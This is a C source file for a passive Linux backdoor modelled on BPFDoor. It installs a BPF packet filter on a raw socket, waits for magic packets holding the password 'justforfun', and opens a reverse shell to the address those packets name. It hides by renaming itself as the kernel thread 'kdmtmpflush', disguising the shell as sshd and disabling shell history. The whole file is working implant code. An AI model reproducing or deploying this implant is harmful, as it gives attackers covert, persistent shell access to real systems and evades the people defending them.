/* Passive implant in the style of BPFDoor (PwC "Red Menshen", Sandfly Security and Elastic
 * write-ups, 2022): no listening port; a packet socket with a classic BPF filter attached
 * (SO_ATTACH_FILTER) that lets through only UDP/TCP/ICMP packets carrying the magic 0x7255 (or
 * 0x5293 for ICMP); the packet names an address, port and password, and the password
 * "justforfun" gets a reverse shell. The process renames itself to look like a kernel thread. */
#include <arpa/inet.h>
#include <linux/filter.h>
#include <linux/if_ether.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>

struct magic_packet {
    uint16_t flag;
    uint32_t ip;
    uint16_t port;
    char pass[14];
} __attribute__((packed));

/* udp[8:2] == 0x7255 || tcp payload[0:2] == 0x7255 || icmp[8:2] == 0x5293, on IPv4 */
static struct sock_filter magic_filter[] = {
    {0x28, 0, 0, 0x0000000c}, {0x15, 0, 27, 0x00000800}, {0x30, 0, 0, 0x00000017},
    {0x15, 0, 5, 0x00000011}, {0x28, 0, 0, 0x00000014}, {0x45, 23, 0, 0x00001fff},
    {0xb1, 0, 0, 0x0000000e}, {0x48, 0, 0, 0x00000016}, {0x15, 19, 20, 0x00007255},
    {0x15, 0, 7, 0x00000001}, {0x28, 0, 0, 0x00000014}, {0x45, 17, 0, 0x00001fff},
    {0xb1, 0, 0, 0x0000000e}, {0x48, 0, 0, 0x00000016}, {0x15, 0, 14, 0x00007255},
    {0x50, 0, 0, 0x0000000e}, {0x15, 11, 12, 0x00000008}, {0x15, 0, 11, 0x00000006},
    {0x28, 0, 0, 0x00000014}, {0x45, 9, 0, 0x00001fff}, {0xb1, 0, 0, 0x0000000e},
    {0x50, 0, 0, 0x0000001a}, {0x54, 0, 0, 0x000000f0}, {0x74, 0, 0, 0x00000002},
    {0x0c, 0, 0, 0x00000000}, {0x07, 0, 0, 0x00000000}, {0x48, 0, 0, 0x0000000e},
    {0x15, 0, 1, 0x00005293}, {0x06, 0, 0, 0x0000ffff}, {0x06, 0, 0, 0x00000000},
};

static void reverse_shell(uint32_t ip, uint16_t port)
{
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = port, .sin_addr.s_addr = ip};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0 || connect(fd, (struct sockaddr *)&peer, sizeof peer) < 0)
        _exit(1);
    dup2(fd, 0);
    dup2(fd, 1);
    dup2(fd, 2);
    setenv("HISTFILE", "/dev/null", 1);
    execl("/bin/sh", "/usr/sbin/sshd", (char *)NULL);
    _exit(1);
}

static const struct magic_packet *find_magic(const unsigned char *frame, ssize_t len)
{
    const struct iphdr *ip = (const struct iphdr *)(frame + sizeof(struct ethhdr));
    size_t offset = sizeof(struct ethhdr) + ip->ihl * 4u;
    if (ip->protocol == IPPROTO_UDP || ip->protocol == IPPROTO_ICMP)
        offset += 8;
    else if (ip->protocol == IPPROTO_TCP)
        offset += (frame[offset + 12] >> 4) * 4u;
    if (len < 0 || offset + sizeof(struct magic_packet) > (size_t)len)
        return NULL;
    return (const struct magic_packet *)(frame + offset);
}

int main(int argc, char **argv)
{
    struct sock_fprog program = {.len = sizeof magic_filter / sizeof magic_filter[0], .filter = magic_filter};
    int sock;
    (void)argc;
    strncpy(argv[0], "[kdmtmpflush]", strlen(argv[0]));
    prctl(PR_SET_NAME, "kdmtmpflush", 0, 0, 0);
    if (fork() > 0)
        return 0;
    setsid();
    sock = socket(PF_PACKET, SOCK_RAW, htons(ETH_P_IP));
    if (sock < 0 || setsockopt(sock, SOL_SOCKET, SO_ATTACH_FILTER, &program, sizeof program) < 0)
        return 0;
    for (;;) {
        unsigned char frame[1536];
        ssize_t n = recvfrom(sock, frame, sizeof frame, 0, NULL, NULL);
        const struct magic_packet *mp = find_magic(frame, n);
        if (!mp)
            continue;
        if (strcmp(mp->pass, "justforfun") == 0 && fork() == 0)
            reverse_shell(mp->ip, mp->port);
    }
}
